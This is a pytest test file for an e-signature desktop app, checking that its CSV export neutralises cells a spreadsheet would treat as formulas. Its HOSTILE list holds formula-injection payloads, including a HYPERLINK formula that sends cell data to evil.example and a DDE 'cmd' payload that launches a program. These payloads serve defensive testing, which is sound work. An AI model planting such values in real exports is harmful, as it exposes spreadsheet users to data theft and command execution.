"""Issue 17, finding 8: CSV export cells that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from esign_desktop.domain.model import Envelope, ProviderKind, new_id
from esign_desktop.ui.csv_export import neutralised, write_envelopes_csv

pytestmark = pytest.mark.gui

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_formula_cells_are_written_as_text(qapp: object, tmp_path: Path, name: str) -> None:
    envelope = Envelope(local_id=new_id(), provider=ProviderKind.ASSENTLY, name=name)
    envelope = replace(envelope, provider_status="=1+1", remote_id="@id")
    target = tmp_path / "out.csv"
    write_envelopes_csv(target, [envelope], lambda _e: "-account")
    with target.open(encoding="utf-8-sig", newline="") as handle:
        (_header, row) = list(csv.reader(handle))
    assert row[0] == "'" + name
    assert row[-2:] == ["'=1+1", "'@id"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_ordinary_cells_are_unchanged() -> None:
    assert neutralised("NDA 2026") == "NDA 2026"
    assert neutralised("Aiko = signer") == "Aiko = signer"
    assert neutralised("") == ""
